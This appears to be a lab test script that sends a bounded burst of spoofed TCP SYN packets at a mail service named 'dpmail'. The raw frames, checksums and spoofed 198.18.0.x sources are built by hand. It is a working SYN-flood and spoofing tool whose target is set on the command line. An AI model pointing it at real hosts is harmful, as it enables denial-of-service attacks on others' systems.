#!/usr/bin/python3
"""Sends a burst of TCP SYNs from spoofed lab addresses to dpmail, over a
raw AF_PACKET socket on the kernel-side interface (scapy would manage a few
thousand a second; this keeps up). Sources are 198.18.0.100-199 with random
ports, so no answer ever completes a handshake. Bounded by --count.
"""
import argparse
import random
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      64240, 0, 0)
    phdr = struct.pack("!4s4sBBH", src_ip, dst_ip, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(phdr + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0x4000, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst", default="198.18.0.2")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=20000)
    a = ap.parse_args()
    mac = lambda m: bytes(int(x, 16) for x in m.split(":"))
    smac, dmac = mac(a.src_mac), mac(a.dst_mac)
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    rnd = random.Random(20261126)
    sent = 0
    for _ in range(a.count):
        src = socket.inet_aton("198.18.0.%d" % rnd.randrange(100, 200))
        f = syn(smac, dmac, src, dst, rnd.randrange(1024, 65535), a.port,
                rnd.getrandbits(32))
        try:
            s.send(f)
            sent += 1
        except OSError:
            pass
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
